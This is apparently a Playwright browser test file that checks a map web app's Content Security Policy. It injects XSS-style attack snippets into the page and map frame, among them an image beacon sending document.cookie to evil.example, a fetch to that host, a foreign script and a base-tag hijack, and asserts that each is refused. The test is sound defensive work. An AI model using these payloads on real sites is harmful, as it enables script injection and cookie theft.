"""The page keeps to its own policy, which stops what somebody else brings in."""

from __future__ import annotations

import pytest
from playwright.sync_api import Frame, Page

from tests.browser.conftest import Visit
from tests.browser.reader import Reader, wait_in
from tests.browser.server import Server
from tests.made_package import NAME as MADE

_LISTEN = """(() => {
  const found = (window.violations ??= []);
  document.addEventListener('securitypolicyviolation', (event) => {
    found.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`);
  });
})()"""
_IMAGE = """() => {
  const box = document.createElement('div');
  box.innerHTML = '<img src="data:," onerror="window.hacked = 1">';
  document.body.append(box);
}"""
_INLINE = """() => {
  const script = document.createElement('script');
  script.textContent = 'window.hacked = 2';
  document.body.append(script);
}"""
_FOREIGN = """() => {
  const script = document.createElement('script');
  script.src = 'https://evil.example/x.js';
  document.body.append(script);
}"""
_FRAMED = """() => {
  const frame = document.createElement('iframe');
  frame.src = 'https://evil.example/';
  document.body.append(frame);
}"""
_PICTURE = """() => { new Image().src = 'https://evil.example/?' + document.cookie; }"""
_FETCH = """() => { fetch('https://evil.example/?secret').catch(() => {}); }"""
_BASE = """() => {
  const base = document.createElement('base');
  base.href = 'https://evil.example/';
  document.head.append(base);
}"""
_ATTACKS = {
    "script-src-attr": _IMAGE,
    "script-src-elem": _INLINE,
    "script-src-elem https://evil.example/x.js": _FOREIGN,
    "frame-src": _FRAMED,
    "img-src": _PICTURE,
    "connect-src": _FETCH,
    "base-uri": _BASE,
}


def _violations(reader: Reader) -> list[str]:
    found = reader.page.evaluate("window.violations")
    assert found is not None
    return [*found, *reader.frame.evaluate("window.violations")]


def _watched(visit: Visit, link: str = "") -> Reader:
    """Follow a link in a browser that notes what the policies refuse, from the first byte on."""
    reader = visit(link, permissions=["clipboard-read", "clipboard-write"])
    reader.page.context.add_init_script(_LISTEN)
    return reader.open(link)


def test_the_whole_page_works_within_its_policy(visit: Visit) -> None:
    reader = _watched(visit, "event=eu-summit")
    page = reader.page
    reader.until("seen.mapped.length > 0 && seen.opened")
    reader.in_map(".cm-symbol").first.hover()
    reader.drag_map(-120, 60)
    reader.in_map(".leaflet-control-zoom-out").click()
    reader.in_map(".cm-legend-handle").click()
    reader.choose("types", "Statement")
    reader.until("seen.address.includes('type=statement')")
    reader.type_into("from", "2016-12-15")
    reader.until("seen.address.includes('from=2016-12-15')")
    reader.pill(0).click()
    for summary in page.locator(".ch-sheet details summary").all():
        summary.click()
    page.get_by_role("button", name="Share").click()
    page.get_by_role("button", name="Copy link").click()
    page.get_by_text("Link copied").wait_for()
    with page.expect_download() as download:
        page.locator('a[data-format="csv"]').click()
    assert download.value.failure() is None
    page.keyboard.press("Escape")
    assert reader.now()["failed"] is False
    assert _violations(reader) == []


def test_a_large_data_set_works_within_it(visit: Visit) -> None:
    reader = _watched(visit, f"dataset={MADE}")
    reader.until("seen.counts.certain > 0 && !seen.counting")
    assert _violations(reader) == []


def test_an_online_base_map_is_allowed_once_it_is_chosen(visit: Visit) -> None:
    reader = _watched(visit, "base=street")
    hosts = frozenset({"tile.openstreetmap.org"})
    reader.page.route(
        lambda url: not url.startswith(reader.base), lambda route: route.fulfill(status=204)
    )
    assert reader.watch.foreign == []
    reader.watch.agreed = hosts
    with reader.page.expect_request(lambda request: "openstreetmap" in request.url):
        reader.in_map(".cm-confirm").click()
    reader.until("seen.base === 'street'")
    assert _violations(reader) == []


@pytest.mark.parametrize("within", ["page", "map"])
def test_what_is_injected_neither_runs_nor_reaches_anybody(visit: Visit, within: str) -> None:
    reader = _watched(visit)
    reached: list[str] = []
    reader.page.on("response", lambda answer: reached.append(answer.url))
    where: Page | Frame = reader.page if within == "page" else reader.frame
    where.evaluate(_LISTEN)
    reached.clear()
    for directive, attack in _ATTACKS.items():
        where.evaluate(attack)
        refused = "(start) => window.violations.some((each) => each.startsWith(start))"
        assert wait_in(where, refused, directive), where.evaluate("window.violations")
    assert where.evaluate("window.hacked") is None
    assert reader.now()["failed"] is False
    foreign = {
        request.url: request.failure for request in reader.page.requests() if "evil" in request.url
    }
    assert set(foreign.values()) <= {"csp"}, foreign
    assert not [url for url in reached if "evil" in url]
    reader.watch.foreign.clear()  # what was refused never left the browser,
    reader.watch.errors.clear()  # which says so


def test_the_page_stands_in_no_other_sites_frame(visit: Visit, server: Server) -> None:
    reader = visit()
    other = reader.page.context.new_page()
    said: list[str] = []
    other.on("console", lambda message: said.append(message.text))
    with other.expect_event("console", lambda message: "frame-ancestors" in message.text):
        other.set_content(f'<iframe src="{server.base}/"></iframe>')
    assert other.frames[-1].url.startswith("chrome-error:")
    other.close()
